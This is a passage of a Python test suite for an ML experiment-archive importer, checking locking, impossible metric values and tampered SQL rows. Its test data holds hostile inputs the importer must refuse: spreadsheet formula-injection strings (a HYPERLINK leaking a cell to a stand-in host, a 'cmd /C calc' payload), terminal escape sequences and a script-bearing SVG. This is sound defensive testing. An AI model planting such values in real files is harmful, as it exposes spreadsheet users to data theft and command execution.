    assert (sorted(str(p) for p in work.rglob("*") if str(p) not in lock), experiments(db)) == before


def test_an_import_into_a_store_another_import_is_making_is_refused_and_removes_nothing(node, tmp_path, capsys):
    """The store's lock is taken before the store is opened or created: while another process holds
    it on a store path that has no database yet, the import is refused and leaves that process's
    files alone (it used to delete a store it took for its own new one)."""
    import fcntl

    work = tmp_path / "work"
    work.mkdir()
    db = work / "mlflow.db"
    with open(f"{db}.writers", "a") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        status = main(["import", str(pack(node, tmp_path / "n.tar.gz")), "--tracking-uri", f"sqlite:///{db}",
                       "--results-dir", str(work / "results")])
        assert status == 2 and "a suite is running on" in capsys.readouterr().err
        assert Path(f"{db}.writers").exists() and not db.exists() and not (work / "results").exists()


def experiments(db: Path) -> list:
    """Every row of a store's experiments table, deleted ones too ([] where there is no store)."""
    if not db.exists():
        return []
    with contextlib.closing(sqlite3.connect(db)) as con:
        return sorted(con.execute("SELECT * FROM experiments"))


# meaning, not only form (issue 38): values that cannot be true, runs that would shadow local ones


def _new_ids(sql: str = ""):
    """An edit and SQL that give every run of the node a new id (its artifact folders with it), so
    that the runs are new to a store that holds the node's own: ``variant(node, tmp, *_new_ids())``."""
    def edit(folder):
        for path in list(folder.glob("mlruns/*/*")):  # listed first: a renamed folder is not visited again
            if len(path.name) == 32:
                path.rename(path.with_name(path.name[1:] + "f"))
    renamed = "".join(f"UPDATE {t} SET run_uuid = substr(run_uuid, 2) || 'f';" for t in TABLES[1:])
    parents = "UPDATE tags SET value = substr(value, 2) || 'f' WHERE key = 'mlflow.parentRunId';"
    return renamed + parents + sql, edit


def _results(run: str | None, change):
    """An edit applying ``change`` to the result.json of ``run`` (every run when None)."""
    def edit(folder):
        for path in folder.glob(f"mlruns/*/{run or '*'}/artifacts/result.json"):
            path.write_text(json.dumps(change(json.loads(path.read_text()))))
    return edit


FORGED = {  # a result.json value that no training can produce, and what the refusal names
    "test accuracy 1.7": (_set(("epochs", 0, "test_acc"), 1.7), "epochs[0].test_acc: expected an accuracy in [0, 1]"),
    "train accuracy 3": (_set(("epochs", 0, "train_acc"), 3), "epochs[0].train_acc: expected an accuracy in [0, 1]"),
    "negative epoch": (_set(("epochs", 0, "epoch"), -1), "epochs[0].epoch: expected a finite number >= 0 (got -1)"),
    "epoch 2 of 1": (_set(("epochs", 0, "epoch"), 2), "epochs[0].epoch: expected 1: epochs numbered 1..n in order"),
    "negative images/s": (_set(("epochs", 0, "examples_per_s"), -5.0), "examples_per_s: expected a finite number"),
    "negative wall time": (_set(("epochs", 0, "epoch_time_s"), -100.0), "epoch_time_s: expected a finite number"),
    "huge grad norm": (_set(("grad_norms", "0.Conv2d"), 10**400), "grad_norms: expected layer names to finite"),
    "mathtext layer": (_set(("grad_norms", "$\\frac{}{}$"), 1.0), "grad_norms: expected the network's own layers"),
    "formula in torch": (_set(("env", "torch"), '=HYPERLINK("http://x?leak="&A1,"torch")'), "env.torch"),
    "formula in commit": (_set(("env", "git_commit"), "@SUM(1+1)*cmd|' /C calc'!A0"), "env.git_commit"),
    "escape in device": (_set(("env", "device"), "cpu\x1b]0;owned\x07"), "env: expected names to printable"),
    "no test images": (_set(("eval_examples",), 0), "eval_examples: expected an integer >= 1 (got 0)"),
    "zero images/s": (_set(("epochs", 0, "examples_per_s"), 0), "examples_per_s: expected a speed > 0"),
}


@pytest.mark.parametrize("case", list(FORGED))
def test_a_number_no_training_can_produce_is_refused_naming_run_and_field(node, tmp_path, case, refused):
    change, expected = FORGED[case]
    run = one_run(node)
    home = tmp_path / "fresh"
    home.mkdir()
    line = refused(home, pack(variant(node, tmp_path, edit=_results(run, change)), tmp_path / "forged.tar.gz"),
                   expected)
    assert f"run {run}'s result.json is malformed" in line


def test_params_that_disagree_with_the_result_are_refused(node, tmp_path, refused):
    run = one_run(node)
    home = tmp_path / "fresh"
    home.mkdir()
    sql = f"UPDATE params SET value = '999' WHERE run_uuid = '{run}' AND key = 'lr';"
    refused(home, pack(variant(node, tmp_path, sql), tmp_path / "params.tar.gz"), "param lr '999': expected '0.01'")


def test_imported_runs_of_a_key_the_store_holds_never_shadow_its_own(node, tmp_path, capsys):
    """The home store is the node's own store (its runs local, not imported). The archive brings the
    same runs again under new ids, dated a day later, with a better test accuracy: every lookup
    the suite makes (its run key, its newest suite run) still finds the local run."""
    home = copy_store(node, tmp_path / "home")
    later = "UPDATE runs SET start_time = start_time + 86400000, end_time = end_time + 86400000;"
    sql, edit = _new_ids(later)

    def better(folder):
        edit(folder)
        _results(None, _set(("epochs", 0, "test_acc"), 0.99))(folder)
    first = variant(node, tmp_path, sql, better)
    second = variant(first, tmp_path, *_new_ids())  # another node's archive, imported later
    imported = []
    for folder in (first, second):
        status, out, err = run_import(home, pack(folder, tmp_path / f"{folder.name}.tar.gz"), capsys)
        assert status == 0 and "imported 4 runs" in out, err
        with sqlite3.connect(folder / "mlflow.db") as db:
            imported.append({r for (r,) in db.execute("SELECT run_uuid FROM runs")})
        time.sleep(0.01)  # import times in ms: the two differ
    tracker = Tracker(f"sqlite:///{home}/mlflow.db")
    with sqlite3.connect(node / "mlflow.db") as db:
        local = {r for (r,) in db.execute("SELECT run_uuid FROM runs")}
    for tags in ({"kind": "arm", "seed": "0"}, {"kind": "arm", "seed": "1"}, {"kind": "suite"}):
        found = [r.info.run_id for r in tracker.find(tags)]  # local, then the latest import, then the first
        assert len(found) == 3 and found[0] in local and found[1] in imported[1] and found[2] in imported[0], tags
    arm = tracker.find({"kind": "arm", "seed": "0"})[0]
    assert tracker.load_result(arm).final("test_acc") != 0.99


ROWS_OF_MEANING = {  # SQL on the node's store, and what the refusal names
    "future start": ("UPDATE runs SET start_time = start_time + 3 * 86400000 WHERE run_uuid = '{run}';",
                     "h in the future (clocks may differ by at most 24 h)"),
    "parent outside": ("UPDATE tags SET value = '{local}' WHERE run_uuid = '{run}' AND key = 'mlflow.parentRunId';",
                       "links to '{local}', which is not a run of the archive"),
    "import tag": ("INSERT INTO tags VALUES ('import.time', '0', '{run}');", "is the import's own"),
    "latest value never logged": ("INSERT INTO latest_metrics VALUES ('ghost', 1.0, 5, 0, 0, '{run}');",
                                  "has a latest value of metric 'ghost', which it never logged"),
    "metric logged 40 times": (
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 40) INSERT INTO metrics "
        "SELECT 'train_loss', 1.0, 1000 + i, '{run}', 1, 0 FROM n;", "is logged 4"),
    "step past its epochs": ("INSERT INTO metrics VALUES ('train_loss', 1.0, 5, '{run}', 99, 0);",
                             "at step 99; a run logs a metric at steps 0 to its epochs (1), once per step in a "
                             "training run"),
    "claim metric logged 33 times": (
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 33) INSERT INTO metrics "
        "SELECT 'p', 0.5, 1000 + i, (SELECT run_uuid FROM tags WHERE key = 'kind' AND value = 'claim'), 0, 0 FROM n;",
        "is logged 33 times at step 0"),
    "accuracy metric 1.7": ("UPDATE metrics SET value = 1.7 WHERE key GLOB '*_acc' AND run_uuid = '{run}';",
                            "of run '{run}' is 1.7, which no run logs (accuracies lie in [0, 1]"),
    "latest value 1e308": ("UPDATE latest_metrics SET value = 1e308 WHERE run_uuid = '{run}';", "is 1e+308"),
    "2,001 metric names": (
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 2001) INSERT INTO metrics "
        "SELECT 'm' || i, 1.0, 5, '{run}', 0, 0 FROM n;", "logs 2,0"),
}


@pytest.mark.parametrize("case", list(ROWS_OF_MEANING))
def test_rows_that_no_run_can_log_are_refused(node, tmp_path, case, refused):
    sql, expected = ROWS_OF_MEANING[case]
    run, local = one_run(node), "0" * 32
    home = tmp_path / "fresh"
    home.mkdir()
    refused(home, pack(variant(node, tmp_path, sql.format(run=run, local=local)), tmp_path / "rows.tar.gz"),
            expected.format(local=local, run=run))


def _claim_run(node: Path) -> str:
    with sqlite3.connect(node / "mlflow.db") as db:
        return db.execute("SELECT run_uuid FROM tags WHERE key = 'kind' AND value = 'claim'").fetchone()[0]


@pytest.mark.parametrize("case,runs,expected", [
    ("no run id", [{"arm": "relu", "seed": 0, "lr": 0.01}], "run_id 'None' is not a run of this archive"),
    ("local run id", [{"arm": "relu", "seed": 0, "lr": 0.01, "run_id": "a" * 32}], "is not a run of this archive"),
    ("escape in arm", [{"arm": "relu\x1b]0;x\x07", "seed": 0, "lr": 0.01, "run_id": "{arm}"}], "runs: expected"),
    ("formula arm", [{"arm": "=1+1", "seed": 0, "lr": 0.01, "run_id": "{arm}"}], "not starting like a formula"),
    ("infinite lr", [{"arm": "relu", "seed": 0, "lr": float("-inf"), "run_id": "{arm}"}], "lr (finite, > 0)"),
    ("repeated run", [{"arm": "relu", "seed": 0, "lr": 0.01, "run_id": "{arm}"}] * 2, "runs: a run_id repeats"),
])
def test_a_verdict_whose_runs_are_not_the_archives_or_whose_text_is_not_printable_is_refused(
        node, tmp_path, case, runs, expected, refused):
    claim, arm = _claim_run(node), one_run(node)
    home = tmp_path / "fresh"
    home.mkdir()

    def edit(folder):
        path = next(folder.glob(f"mlruns/*/{claim}/artifacts/verdict.json"))
        verdict = json.loads(path.read_text())
        verdict["runs"] = [{**r, **({"run_id": arm} if r.get("run_id") == "{arm}" else {})} for r in runs]
        path.write_text(json.dumps(verdict))
    line = refused(home, pack(variant(node, tmp_path, edit=edit), tmp_path / "verdict.tar.gz"), expected)
    assert f"run {claim}'s verdict.json is malformed" in line


@pytest.mark.parametrize("name", ["results/smoke/cpu/zz.png/readme.txt", "results/smoke/cpu/notes.txt",
                                  "results/claims.md", "results/smoke/CPU!/claims.md"])
def test_a_report_of_an_unknown_kind_or_place_is_refused(home, node, tmp_path, name, refused):
    refused(home, pack(node, tmp_path / "kind.tar.gz", [(member(name, size=1), b"x")]),
            "is not one a suite or benchmark writes")


def test_an_import_while_a_suite_writes_its_reports_is_refused_and_the_reports_are_the_suites(
        node, tmp_path, capsys, data_dir, monkeypatch, ledger):
    """The race the review found: the import checked the local reports before taking the store's
    lock, and a suite wrote its reports after releasing its own; an import started in between
    left claims.md the node's and the rest the suite's. The import is started at the worst
    moment, as the suite begins to write its reports: it is refused, and every report is the suite's."""
    from ablations import __main__ as cli

    home = tmp_path / "home"
    home.mkdir()
    archive = pack(node, tmp_path / "race.tar.gz")
    real, seen = cli.write_results, {}

    def write_then(reports, folder, **kwargs):
        seen["import"] = run_import(home, archive, capsys)
        return real(reports, folder, **kwargs)
    monkeypatch.setattr(cli, "write_results", write_then)
    status = main(["--scale", "smoke", "--only", "shapes", "--tracking-uri", f"sqlite:///{home}/mlflow.db",
                   "--results-dir", str(home / "results"), "--checkpoint-dir", str(tmp_path / "ck"), "--data-dir",
                   str(data_dir)])
    imported, _, err = seen["import"]
    ledger(kind="archive", archive="import during a suite's report step", rejected=imported == 2,
           error=err.strip().splitlines()[0] if err.strip() else "", outside_bytes=0, store_changed=imported == 0)
    assert status == 0 and imported == 2 and "a suite is running on" in err
    assert "node report" not in (home / "results" / "smoke" / "cpu" / "claims.md").read_text()


def test_a_stub_row_of_a_local_run_cannot_carry_links_into_it(node, tmp_path, capsys, refused):
    """The archive holds a copy of a local run's row (skipped as already present) so that its new
    claim run may name that run as its parent: a new run may link only to the archive's new runs or
    to ones an earlier import brought, never to a local one."""
    home = copy_store(node, tmp_path / "home")  # the node's store, its runs local
    claim = _claim_run(node)
    sql, edit = _new_ids()
    moved = variant(node, tmp_path, sql, edit)  # every run new, except the stub below: the local claim run's id
    with sqlite3.connect(moved / "mlflow.db") as db:
        new_claim = db.execute("SELECT run_uuid FROM tags WHERE key = 'kind' AND value = 'claim'").fetchone()[0]
        db.execute("INSERT INTO runs SELECT ?, name, source_type, source_name, entry_point_name, user_id, status, "
                   "start_time, end_time, source_version, lifecycle_stage, artifact_uri, experiment_id, deleted_time "
                   "FROM runs WHERE run_uuid = ?", (claim, new_claim))
        db.execute("UPDATE tags SET value = ? WHERE key = 'mlflow.parentRunId' AND run_uuid = ?",
                   (claim, one_run(moved)))
    refused(home, pack(moved, tmp_path / "stub.tar.gz"), f"names run {claim} (as its parent or in its verdict), "
                                                         "which is a run of the local store")


def test_a_report_whose_content_is_not_its_kind_is_refused(home, node, tmp_path, refused):
    for name, data, expected in (("claims.csv", b'arm\r\n=HYPERLINK("http://x?a="&A1)\r\n', "like a spreadsheet"),
                                 ("plot.png", b"<svg><script/></svg>", "is not a PNG image"),
                                 ("bench.json", b"{not json", "is not JSON"),
                                 ("bench.csv", '\ufeff=HYPERLINK("http://x","y")\r\n'.encode(), "byte-order mark"),
                                 ("claims.csv", b"sep=;\r\nx;=cmd|' /C calc'!A0\r\n", "a 'sep=' line"),
                                 ("claims.csv", b"a\tb\r\nx\t=1+1\r\n", "like a spreadsheet formula: '=1+1'"),
                                 ("claims.csv", b'a\n"' + (b"x" * 60_000 + b"\n") * 3 + b'"\n',  # one cell
                                  "is not a CSV file the suite writes (field larger than field limit"),
                                 ("bench.csv", b"a\n" + b"x" * 200_000 + b"\n", "holds a line of 200,000 characters")):
        refused(home, pack(node, tmp_path / f"{name}.tar.gz", [(member(f"results/full/gpu/{name}", size=len(data)),
                                                                 data)]), expected)


def test_runs_on_an_incomplete_suite_is_one_line(tmp_path, node, capsys):
    """A genuine archive's suite run (the fixture's has no scale tag) imported into an empty store
    becomes the default of ``python -m ablations runs``: one line naming it, not a traceback."""
    home = tmp_path / "fresh"
    home.mkdir()
    status, _, err = run_import(home, pack(node, tmp_path / "a.tar.gz"), capsys)
    assert status == 0, err
    assert main(["runs", "--tracking-uri", f"sqlite:///{home}/mlflow.db"]) == 2
    err = capsys.readouterr().err
    assert "is incomplete (KeyError 'scale'): pass another --suite-run" in " ".join(err.split())
    assert "Traceback" not in err


def test_a_damaged_archive_database_is_refused_naming_it(home, node, tmp_path, refused):
    """A page overwritten in the archive's database (a broken copy) is found before any row is read."""
    from test_damaged import damage

    damaged = variant(node, tmp_path, edit=lambda folder: damage(folder / "mlflow.db", "tags"))
    refused(home, pack(damaged, tmp_path / "damaged.tar.gz"), "its mlflow.db is damaged: SQLite reports")


def test_a_suite_cannot_open_a_store_an_import_is_making_until_the_import_ends(tmp_path):
    """An import makes a new store under the lock a suite takes to make one, held to the end: a
    suite starting meanwhile waits, and never writes into a store the refused import then removes
    (it used to open it at once, and its runs went to a deleted file)."""
    import subprocess
    import sys

    from ablations.node.created_store import created_store
    from conftest import REPO

    db = tmp_path / "mlflow.db"
    uri = f"sqlite:///{db}"
    code = f"from alexnet.tracking import Tracker; print(Tracker({uri!r}).experiment_id)"
    with contextlib.chdir(tmp_path), pytest.raises(RuntimeError, match="refused"), created_store(uri):
        suite = subprocess.Popen([sys.executable, "-c", code], cwd=tmp_path, stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": str(REPO)})
        with pytest.raises(subprocess.TimeoutExpired):
            suite.wait(timeout=8)  # it waits for the import (it starts in about 3 s)
        raise RuntimeError("refused")
    out, err = suite.communicate(timeout=120)
    assert suite.returncode == 0, err[-2000:]
    assert db.exists() and out.strip() == "1"  # its own store, made once the import had gone: its experiment
